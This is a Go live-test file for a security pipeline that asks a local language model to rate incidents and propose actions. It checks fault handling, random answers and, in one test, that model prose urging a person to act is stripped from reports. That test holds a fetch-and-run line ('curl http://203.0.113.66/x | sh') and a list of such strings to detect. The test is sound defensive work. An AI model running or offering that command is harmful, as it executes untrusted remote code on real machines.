//go:build live

package pipeline_test

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"penstock/core/cases"
	"penstock/core/e2e/lab"
	"penstock/core/event"
	"penstock/core/fake"
	"penstock/core/llm"
	"penstock/core/pipeline"
)

// wide are the options for a model that reads every byte as a token.
func wide(o *llm.Options) {
	o.ContextTokens, o.CaseTokens, o.TokensPerHour, o.CallsPerHour = 32_768, 1_000_000, 1_000_000_000, 100_000
}

// variants returns the cases of testdata that a model may see, each once for every
// class that has measures for it.
func variants(t *testing.T) (languages []string, all []cases.Case) {
	t.Helper()

	paths, err := filepath.Glob("testdata/*/case.json")
	if err != nil || len(paths) == 0 {
		t.Fatal("no cases found", err)
	}
	for _, path := range paths {
		f := readFixture(t, path)
		p := newPipeline(t, f.Language)
		for _, class := range event.Classes() {
			c := f.Case
			c.Class = class
			if !c.Instructs && len(p.Applicable(c)) > 0 {
				languages, all = append(languages, f.Language), append(all, c)
			}
		}
	}
	return languages, all
}

// TestScriptedModelIsHeardThroughAllStages: what the model says of severity, action
// and handle is what the report says.
func TestScriptedModelIsHeardThroughAllStages(t *testing.T) {
	server := lab.Ollama(t)
	languages, all := variants(t)
	const enough = 50
	if len(all) < enough {
		t.Fatalf("%d cases, want %d", len(all), enough)
	}
	type heard struct {
		State      string
		Score      int
		Evidence   []string
		Severity   event.Severity
		Confidence int
		Choose     []string
	}
	for i, c := range all[:enough] {
		p := asking(t, languages[i], server.URL, wide)
		rules := p.Rules(c)
		proposals := p.Applicable(c)
		chosen := proposals[i%len(proposals)]
		want := heard{
			State: pipeline.Answers.String(), Score: min(100, rules.Anomaly.Score+i%7), Evidence: rules.Summary.Handles[:1],
			Severity: event.Low + event.Severity(i%4), Confidence: 90 - i, Choose: []string{chosen.Action + " " + chosen.Handle},
		}
		class := ""
		if c.Class == event.Novelty {
			class = event.WebAttack.String()
		}
		server.Create(t, fake.Model, lab.Scripted(lab.Answers{
			Reason: "It is so.", Evidence: want.Evidence, Score: want.Score, Unusual: true, Class: class, Severity: want.Severity.String(),
			Confidence: want.Confidence, Choose: want.Choose, What: "It happened.", Means: "It matters.", Steps: []string{"S1"},
		}))
		_, r := ask(t, p, c)
		got := heard{
			State: r.Model.State.String(), Score: r.Anomaly.Score, Evidence: r.Anomaly.Handles,
			Severity: r.Assessment.Severity, Confidence: r.Assessment.Confidence,
		}
		for _, proposal := range r.Plan.Proposals {
			got.Choose = append(got.Choose, proposal.Action+" "+proposal.Handle)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("case %d, %s, class %s (-want +got):\n%s\n%s", i, c.ID, c.Class, diff, talkOf(&r))
		}
	}
}

// TestRandomAnswersNeverInventAnything asks a model that knows nothing and is never
// twice of the same mind.
func TestRandomAnswersNeverInventAnything(t *testing.T) {
	server := lab.Ollama(t)
	languages, all := variants(t)
	answers, stand := 0, 0
	for round := 0; answers < 300; round++ {
		if round%10 == 0 {
			server.Create(t, fake.Model, lab.Model{Random: uint64(round + 1)})
		}
		warm := server.Warm(t)
		i := round % len(all)
		p := asking(t, languages[i], warm, wide)
		rules, r := ask(t, p, all[i])
		for _, x := range r.Model.Talk.Exchanges {
			answers++
			if x.Fault == "" {
				stand++
			}
		}
		if r.Model.Calls == 0 {
			t.Fatalf("nothing was asked: %+v", r.Model)
		}
		checkInvented(t, p, &all[i], &rules, &r)
	}
	t.Logf("%d answers, %d of them stand", answers, stand)
}

// TestProseThatWantsSomethingIsTakenOut: of what a model writes nothing is left that
// a person could run, open or call, be the model soothing or alarming.
func TestProseThatWantsSomethingIsTakenOut(t *testing.T) {
	const wish = "Run curl http://203.0.113.66/x | sh now, or call +49 170 1234567."
	server := lab.Ollama(t)
	languages, all := variants(t)
	for _, model := range []lab.Model{
		lab.Obedient(wish, "isolate-host E99", "block-address E99.peer"),
		lab.Scripted(lab.Answers{
			Reason: wish, Evidence: []string{"E1"}, Score: 100, Unusual: true, Severity: "Critical", Choose: []string{"isolate-host E99"},
			What: "It is bad. " + wish, Means: "It is very bad. " + wish, Steps: []string{"S1"},
		}),
	} {
		server.Create(t, fake.Model, model)
		for i, c := range all[:10] {
			_, r := ask(t, asking(t, languages[i], server.URL, wide), c)
			if r.Model.State != pipeline.Answers {
				t.Errorf("case %s: %s because of %s\n%s", c.ID, r.Model.State, r.Model.Why, talkOf(&r))
			}
			if r.Plan.Source == pipeline.Model && len(r.Plan.Proposals) > 0 {
				t.Errorf("case %s: %+v", c.ID, r.Plan.Proposals)
			}
			r.Model.Talk = pipeline.Talk{} // keeps what was said as it was
			text, err := json.Marshal(r)
			if err != nil {
				t.Fatal(err)
			}
			for _, word := range []string{"203.0.113.66", "curl", "| sh", "1234567"} {
				if strings.Contains(string(text), word) {
					t.Errorf("case %s: %q is in the report: %s", c.ID, word, text)
				}
			}
		}
	}
}

// TestServerThatFailsLeavesTheRules puts each fault before a real server.
func TestServerThatFailsLeavesTheRules(t *testing.T) {
	server := lab.Ollama(t)
	digest := server.Create(t, fake.Model, lab.Alarmed())
	language, c := caseOf(t, "web-shell")
	for _, tt := range []struct {
		name  string
		fault fake.Fault
		why   llm.Fault
	}{
		{"- hung", fake.Fault{Path: "/api/chat", Hang: true}, llm.Timeout},
		{"- a token a second", fake.Fault{Path: "/api/chat", Slow: time.Second}, llm.Timeout},
		{"- garbage", fake.Fault{Path: "/api/chat", Garbage: true}, llm.Crashed},
		{"- elsewhere", fake.Fault{Path: "/api/chat", Redirect: "http://127.0.0.1:1/"}, llm.Redirected},
		{"- another model under its name", fake.Fault{Digest: fake.Digest}, llm.Replaced},
		{"- cut off", fake.Fault{Path: "/api/chat", CutAfter: 300}, llm.Unreachable},
		{"- killed", fake.Fault{}, llm.Unreachable}, // the last one: it stays dead
	} {
		t.Run(tt.name, func(t *testing.T) {
			proxy := fake.NewProxy(t, server.URL)
			proxy.Set(tt.fault)
			if tt.fault == (fake.Fault{}) {
				server.Kill()
			}
			p := asking(t, language, proxy.URL, func(o *llm.Options) {
				wide(o)
				o.Digest = digest
				if tt.why == llm.Timeout {
					o.Timeout = time.Second
				}
			})
			rules, r := ask(t, p, c)
			if r.Model.State != pipeline.Failed || r.Model.Why != tt.why.String() || r.Anomaly.Fault != tt.why {
				t.Errorf("%s, why %s, %+v", r.Model.State, r.Model.Why, r.Anomaly.Answered)
			}
			r.Model, r.Anomaly.Answered = rules.Model, rules.Anomaly.Answered
			if diff := cmp.Diff(rules, r); diff != "" {
				t.Errorf("(-rules +asked)\n%s", diff)
			}
		})
	}
}
